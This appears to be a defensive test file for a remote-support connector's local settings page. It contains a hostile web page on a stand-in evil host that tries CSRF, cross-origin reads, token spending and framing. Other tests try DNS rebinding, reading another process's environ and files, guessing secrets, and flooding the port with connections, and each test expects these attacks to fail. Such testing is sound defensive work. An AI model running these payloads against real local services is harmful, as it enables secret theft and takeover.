/* The customer's settings page against what else there is on that machine: a hostile page in a real browser, a second
 * browser, the back button, and other users. */
import { execFile, execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { expect, onTestFinished, test } from "vitest";
import { browserMissing, launch, openLocal } from "../harness/browser.ts";
import { Connector } from "../harness/connector.ts";
import { CODE, HostileHub } from "../harness/hostile.ts";
import { plain, SettingsPage, settingsUrl } from "../harness/settings.ts";
import { needs } from "../harness/skip.ts";
import { until } from "../harness/until.ts";

/** A connector whose customer has its page open, and the switches as they are. */
async function place(): Promise<{ c: Connector; switches: () => string }> {
  const hub = await HostileHub.start();
  const c = new Connector(hub);
  expect(await c.enroll(CODE, {}, hub.agreement.sha256)).toMatchObject({ code: 0 });
  c.run();
  await settingsUrl(c);
  return { c, switches: () => c.read("permissions.json") };
}

/** Everything that a page of another origin can try; it says what came of each. */
const attacks = (origin: string, secret: string) => `<!doctype html><title>evil</title><script>
const origin = ${JSON.stringify(origin)}, body = JSON.stringify({ permission: "monitoring", to: "off" });
const said = {};
const tries = {
  read: () => fetch(origin + "/api/state").then((r) => r.text()),
  token: () => fetch(origin + "/api/token", { method: "POST", body: JSON.stringify({ secret: ${JSON.stringify(secret)} }), headers: { "content-type": "application/json" } }).then((r) => r.text()),
  blind: () => fetch(origin + "/api/switches", { method: "POST", mode: "no-cors", body, credentials: "include" }).then((r) => r.type),
  json: () => fetch(origin + "/api/switches", { method: "POST", body, headers: { "content-type": "application/json", "x-imprimatur-token": "x" } }).then((r) => r.text()),
  beacon: async () => navigator.sendBeacon(origin + "/api/switches", new Blob([body], { type: "text/plain" })) && "sent",
  socket: () => new Promise((d) => { const w = new WebSocket(origin.replace("http", "ws") + "/api/state"); w.onopen = () => d("open"); w.onerror = () => d("refused"); }),
  events: () => new Promise((d) => { const e = new EventSource(origin + "/api/state"); e.onopen = () => d("open"); e.onerror = () => (e.close(), d("refused")); }),
  script: () => new Promise((d) => { const s = document.createElement("script"); s.src = origin + "/api/state"; s.onload = () => d("ran"); s.onerror = () => d("refused"); document.head.append(s); }),
  frame: () => new Promise((d) => { const f = document.createElement("iframe"); f.src = origin + "/"; f.onload = () => setTimeout(() => { try { d(f.contentDocument ? "same origin" : "opaque"); } catch { d("opaque"); } }); document.documentElement.append(f); }),
  opened: async () => { const w = window.open(origin + "/#" + "A".repeat(43)); await new Promise((d) => setTimeout(d, 1000)); try { return w.document.title; } catch (e) { return "opaque"; } finally { w?.close(); } },
};
(async () => {
  for (const [name, run] of Object.entries(tries)) said[name] = await run().catch((e) => "failed");
  const f = Object.assign(document.createElement("form"), { method: "post", action: origin + "/api/switches", enctype: "text/plain", target: "sink" });
  f.innerHTML = "<input name='{\\"permission\\":\\"monitoring\\",\\"to\\":\\"off\\",\\"x\\":\\"' value='\\"}'><iframe name=sink></iframe>";
  document.documentElement.append(f);
  f.submit();
  setTimeout(() => fetch("/said", { method: "POST", body: JSON.stringify(said) }), 1000);
})();
</script>`;

interface Evil {
  browser: Browser;
  said: (at: string) => Promise<Record<string, string>>;
}

async function evil(page: (at: string) => string, ...args: string[]): Promise<Evil> {
  let heard: ((said: Record<string, string>) => void) | undefined;
  const server = createServer((req, res) => {
    if (req.method !== "POST") return void res.writeHead(200, { "content-type": "text/html" }).end(page(req.headers.host!));
    let text = "";
    req.on("data", (d) => (text += d));
    req.on("end", () => (res.end(), heard?.(JSON.parse(text) as Record<string, string>)));
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  onTestFinished(() => void server.close());
  const browser = await launch(["--disable-popup-blocking", ...args]);
  onTestFinished(() => browser.close());
  const { port } = server.address() as AddressInfo;
  const said = async (host: string) => {
    const answer = new Promise<Record<string, string>>((done) => (heard = done));
    const tab = await browser.newPage();
    await tab.goto(`http://${host}:${port}/`);
    return answer;
  };
  return { browser, said };
}

test("a hostile page in a real browser reads nothing, turns nothing and frames nothing, from another site or another port", async (ctx) => {
  needs(ctx, browserMissing());
  const { c, switches } = await place();
  const url = await settingsUrl(c);
  const before = switches();
  const e = await evil(() => attacks(url.origin, "A".repeat(43)), "--host-resolver-rules=MAP evil.example.test 127.0.0.1");
  for (const host of ["evil.example.test", "127.0.0.1"]) {
    const said = await e.said(host);
    expect(said).toEqual({
      ...{ read: "failed", token: "failed", blind: "failed", json: "failed", beacon: "sent", socket: "refused", events: "refused", script: "refused" },
      ...{ frame: "opaque", opened: "opaque" },
    });
    expect(switches()).toBe(before);
  }
  // The secret is not spent by that.
  expect((await settingsUrl(c)).href).toBe(url.href);
  await SettingsPage.open(c);
});

test("a name that is pointed at this machine meanwhile finds no page behind it", async (ctx) => {
  needs(ctx, browserMissing());
  const { c } = await place();
  const url = await settingsUrl(c);
  const e = await evil(() => "", "--host-resolver-rules=MAP rebind.example.test 127.0.0.1");
  const tab = await e.browser.newPage();
  expect((await tab.goto(`http://rebind.example.test:${url.port}/`))!.status()).toBe(421);
  // The intruder's own server answered while the name was still its own.
  await tab.route("**/rebind", (route) => route.fulfill({ contentType: "text/html", body: "<title>evil</title>" }));
  await tab.goto(`http://rebind.example.test:${url.port}/rebind`);
  const spend = { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ secret: url.hash.slice(1) }) };
  const status = (path: string, init: object) => tab.evaluate(`fetch(${JSON.stringify(path)}, ${JSON.stringify(init)}).then((r) => r.status, () => "failed")`);
  // Newer browsers do not even ask.
  expect([421, "failed"]).toContain(await status("/api/token", spend));
  expect([421, "failed"]).toContain(await status("/", {}));
  expect((await settingsUrl(c)).href).toBe(url.href);
});

test("two browsers have a page each; back, forward and reload show no secret; what is closed stays closed", async (ctx) => {
  needs(ctx, browserMissing());
  const { c } = await place();
  const heading = { name: "Remote support by ACME Print" };
  const one = await openLocal((await settingsUrl(c)).origin);
  const first = await settingsUrl(c);
  await one.goto(first.href);
  await one.getByRole("heading", heading).waitFor();
  const two = await openLocal(first.origin);
  await two.goto((await settingsUrl(c)).href);
  await two.getByRole("heading", heading).waitFor();

  // A second tab of the first browser, opened by the address alone, is nobody.
  const other = await one.context().newPage();
  await other.goto(`${first.origin}/`);
  await other.getByRole("heading", { name: "This page is closed" }).waitFor();

  await one.goto("about:blank");
  await one.goBack();
  await one.getByRole("heading", heading).waitFor();
  expect(one.url()).toBe(`${first.origin}/`);
  await one.reload();
  await one.getByRole("heading", heading).waitFor();
  expect(await one.evaluate("JSON.stringify([location.href, document.cookie, localStorage.length])")).toBe(JSON.stringify([`${first.origin}/`, "", 0]));

  await one.getByRole("button", { name: "Close this page" }).click();
  await one.getByRole("heading", { name: "This page is closed" }).waitFor();
  await one.goto("about:blank");
  await one.goBack();
  await one.getByRole("heading", { name: "This page is closed" }).waitFor();
  await one.goto(first.href);
  await one.getByRole("heading", { name: "This link has been used" }).waitFor();
  // The other one is still open, and turns a switch.
  await two.getByRole("switch", { name: /See how the print system works/ }).click();
  await until("it is off", () => c.read("permissions.json").includes('"monitoring":"off"'));
});

test("R66 another user of the machine reads none of its files, gets nothing from the page, and cannot shut the customer out", async (ctx) => {
  needs(ctx, process.getuid?.() === 0 ? "" : "only root can become another user");
  const { c, switches } = await place();
  const url = await settingsUrl(c);
  const before = switches();
  const nobody = ["--reuid=65534", "--regid=65534", "--clear-groups"];
  execFileSync("chmod", ["755", join(c.dir, "..")]);
  const files = execFileSync("find", [c.dir, "-type", "f"], { encoding: "utf8" }).trim().split("\n");
  expect(files.length).toBeGreaterThan(8);
  const script = `for f in "$@"; do cat "$f" && echo "READ $f"; done 2>/dev/null; ls ${c.dir} 2>/dev/null; true`;
  expect(execFileSync("setpriv", [...nobody, "sh", "-c", script, "sh", ...files], { encoding: "utf8" })).toBe("");
  // Nor what the process shows of itself.
  const pid = c.program!.child.pid!;
  const looks = `cat /proc/${pid}/environ /proc/${pid}/maps 2>/dev/null; ls /proc/${pid}/fd 2>/dev/null; true`;
  expect(execFileSync("setpriv", [...nobody, "sh", "-c", looks], { encoding: "utf8" })).toBe("");
  expect(readFileSync(`/proc/${pid}/cmdline`, "latin1")).not.toContain(url.hash.slice(1));

  const http = (...args: string[]) => execFileSync("setpriv", [...nobody, "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", ...args], { encoding: "utf8" });
  expect(http(`${url.origin}/api/state`)).toBe("401");
  const guess = (secret: string) =>
    http("-X", "POST", "-H", `Origin: ${url.origin}`, "-H", "Content-Type: application/json", "-d", JSON.stringify({ secret }), `${url.origin}/api/token`);
  expect(new Set(Array.from({ length: 30 }, (_, i) => guess(`guess${i}`)))).toEqual(new Set(["403", "429"]));
  // Connections that say nothing, and as many as it takes.
  const port = Number(url.port);
  const silent = execFile("setpriv", [...nobody, "node", "-e", `for (let i = 0; i < 300; i++) require("net").connect(${port}, "127.0.0.1").on("error", () => {}); setTimeout(() => {}, 60000)`]);
  onTestFinished(() => void silent.kill());
  await until("they are there", () => readFileSync("/proc/net/tcp", "utf8").split("\n").filter((l) => l.includes(`0100007F:${port.toString(16).toUpperCase().padStart(4, "0")} `) && / 01 /.test(l)).length >= 64);
  const page = await SettingsPage.open(c);
  expect((await page.state()).provider).toBe("ACME Print");
  expect((await page.turn("console", "ask")).permissions.console.state).toBe("ask");
  expect(before).not.toBe(switches());
  expect((await plain(`${url.origin}/`)).status).toBe(200);
});
